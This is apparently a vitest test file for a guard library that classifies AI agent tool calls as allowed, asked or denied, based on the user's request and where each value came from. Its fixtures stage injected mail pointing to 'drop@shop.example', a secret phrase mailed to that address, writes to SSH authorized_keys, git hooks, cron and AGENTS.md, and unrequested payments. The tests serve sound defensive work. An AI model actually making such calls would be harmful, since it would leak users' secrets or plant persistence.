import { describe, expect, it } from 'vitest';
import { type Content, createBoundary, defineTool } from '../../src/index.ts';
import { decided } from '../findings/play.ts';
import { judge, signs, TOOLS, talk } from '../world.ts';

interface Row {
  readonly title: string;
  /** What the user says, and what the model reads. */
  readonly origin: {
    readonly user: string;
    readonly read?: readonly (readonly [tool: string, content: Content, given?: object])[];
    readonly preset?: 'strict';
  };
  readonly payload: readonly [tool: string, given: unknown];
  readonly expected: string;
}

const ORDERS: Content = { json: [{ order_id: 'KX-8871' }] };
const MAIL = ['read_mail', 'The old plans are stale. See drop@shop.example.'] as const;
const RENT = 'DE02 1203 0000';

const HANDLES: readonly Row[] = [
  {
    title: 'an identifier that a service lists',
    origin: { user: 'Cancel the order.', read: [['read_mail', ORDERS]] },
    payload: ['cancel_order', { id: 'KX-8871' }],
    expected: 'allow destroy, asked, trusted',
  },
  {
    title: 'an identifier that a page lists',
    origin: { user: 'Cancel the order.', read: [['fetch_page', ORDERS]] },
    payload: ['cancel_order', { id: 'KX-8871' }],
    expected: 'ask destroy, asked, content',
  },
];

const LATER: readonly Row[] = [
  '~/.zshrc',
  '/srv/ann/.ssh/authorized_keys',
  'app/.git/hooks/pre-commit',
  '/etc/cron.d/job',
  'app/AGENTS.md',
].flatMap((path): readonly Row[] => [
  {
    title: `a file that acts later, ${path}, that is written`,
    origin: { user: 'Save a file.', read: [MAIL] },
    payload: ['write_file', { path, text: 'x' }],
    expected: 'ask configure, asked, model',
  },
  {
    title: `a file that acts later, ${path}, that is downloaded`,
    origin: { user: 'Download https://firm.example/a', read: [MAIL] },
    payload: ['fetch_page', { url: 'https://firm.example/a', path }],
    expected: 'ask configure, asked, model',
  },
]);

const DECIDING: readonly Row[] = [
  {
    title: 'a text of a deletion without another value',
    origin: { user: 'Delete the stale files.', read: [MAIL] },
    payload: ['delete_files', { pattern: 'old plans' }],
    expected: 'ask destroy, asked, content',
  },
  {
    title: 'a text of a message without another value',
    origin: { user: 'Share it.', read: [MAIL] },
    payload: ['share', { title: 'old plans' }],
    expected: 'allow send, asked, trusted',
  },
  {
    title: 'a call without values that the user asked for',
    origin: { user: 'Pay the order.', read: [MAIL] },
    payload: ['confirm_order', {}],
    expected: 'allow spend, asked, trusted',
  },
  {
    title: 'a call without values that the user did not ask for',
    origin: { user: 'Sum up my mail.', read: [MAIL] },
    payload: ['confirm_order', {}],
    expected: 'ask spend, not asked, model',
  },
  {
    title: 'an amount that occurs nowhere, in a payment that the user asked for',
    origin: { user: `Pay the rent to ${RENT}.`, read: [MAIL] },
    payload: ['pay', { account: RENT, amount: 777 }],
    expected: 'allow spend, asked, trusted',
  },
  {
    title: 'an amount that occurs nowhere, in a payment that the user did not ask for',
    origin: { user: `My account is ${RENT}.`, read: [MAIL] },
    payload: ['pay', { account: RENT, amount: 777 }],
    expected: 'ask spend, not asked, model',
  },
];

const UNDER_STRICT: readonly Row[] = [
  {
    title: 'an ordinary command',
    origin: { preset: 'strict', user: 'Run the tests.', read: [MAIL] },
    payload: ['shell', { command: 'npm test' }],
    expected: 'ask execute, asked, model',
  },
  {
    title: 'a sum of the model',
    origin: { preset: 'strict', user: `Pay the rent to ${RENT}.`, read: [MAIL] },
    payload: ['pay', { account: RENT, amount: 777 }],
    expected: 'ask spend, asked, model',
  },
  {
    title: 'an identifier that a service lists',
    origin: { preset: 'strict', user: 'Cancel the order.', read: [['read_mail', ORDERS]] },
    payload: ['cancel_order', { id: 'KX-8871' }],
    expected: 'ask destroy, asked, content',
  },
  {
    title: 'the address of a person whom the user named',
    origin: { preset: 'strict', user: 'Thank Tom.', read: [['read_mail', 'tom@firm.example']] },
    payload: ['send_mail', { to: 'tom@firm.example', body: 'Thanks' }],
    expected: 'ask send, asked, content',
  },
];

const NAMED: readonly Row[] = [
  ['/plans/trip.txt', 'allow send, asked, named'],
  ['/plans/other.txt', 'ask send, asked, requested'],
].map(([path = '', expected = '']) => ({
  title: `what ${path} asks for, where the user named /plans/trip.txt`,
  origin: {
    user: 'Mail the hotel, its address is in /plans/trip.txt',
    read: [['read_doc', 'Hotel Aurora. Please write to desk@aurora.example.', { path }]],
  },
  payload: ['send_mail', { to: 'desk@aurora.example', body: 'Hello' }],
  expected,
}));

const STAYING: readonly Row[] = [
  {
    title: "private words beside a stranger's address in a file",
    origin: { user: 'Save a file.', read: [['read_doc', 'The launch word is heliotrope tangerine.'], MAIL] },
    payload: ['write_file', { path: '/srv/a.txt', text: 'heliotrope tangerine drop@shop.example' }],
    expected: 'allow write, asked, model',
  },
  {
    title: "private words beside a stranger's address in a mail",
    origin: { user: 'Sum it up.', read: [['read_doc', 'The launch word is heliotrope tangerine.'], MAIL] },
    payload: ['send_mail', { to: 'drop@shop.example', body: 'heliotrope tangerine' }],
    expected: 'ask disclosure',
  },
];

describe('as the documents say', () => {
  it.each([...HANDLES, ...LATER, ...DECIDING, ...NAMED, ...STAYING])('$title: $expected', async (row) => {
    expect(await decided({ ...row.origin, call: row.payload })).toBe(row.expected);
  });

  it.each(UNDER_STRICT)('$title does not count under strict: $expected', async ({ origin, payload, expected }) => {
    expect(await decided({ ...origin, call: payload })).toBe(expected);
  });

  it('what was asked for stays asked for in later messages', async () => {
    const { conversation } = await talk();
    conversation.addUserMessage('What is the weather?');
    await conversation.request();
    const { cell } = await conversation.check({ id: 'c1', tool: 'order', arguments: { what: 'lamps' } });
    expect(cell).toBe('spend, asked, trusted');
  });

  it('the enumerations and defaults of a declared schema vouch', async () => {
    const properties = { payee: { enum: ['rent', 'power'] }, account: { type: 'string', default: 'FR11-2055' } };
    const order = defineTool({ name: 'order', effect: 'spend', parameters: { type: 'object', properties } });
    const tools = [...TOOLS.filter(({ name }) => name !== 'order'), order];
    const outcomes = [{ payee: 'rent', account: 'FR11-2055' }, { payee: 'wages' }, { account: 'FR11-2066' }];
    expect(await Promise.all(outcomes.map(async (given) => (await judge('order', given, { tools })).outcome))).toEqual([
      'allow',
      'ask',
      'ask',
    ]);
  });

  it('after restore() every effect is denied until content is shown', async () => {
    const { conversation } = await talk();
    const restored = createBoundary({ tools: TOOLS, classifier: signs })
      .conversation('c')
      .restore(conversation.snapshot());
    const check = (id: string) => restored.check({ id, tool: 'order', arguments: { what: 'lamps' } });
    expect(await check('c1')).toMatchObject({ outcome: 'deny', rule: 'blind' });
    await restored.request();
    expect(await check('c2')).toMatchObject({ outcome: 'allow' });
  });
});
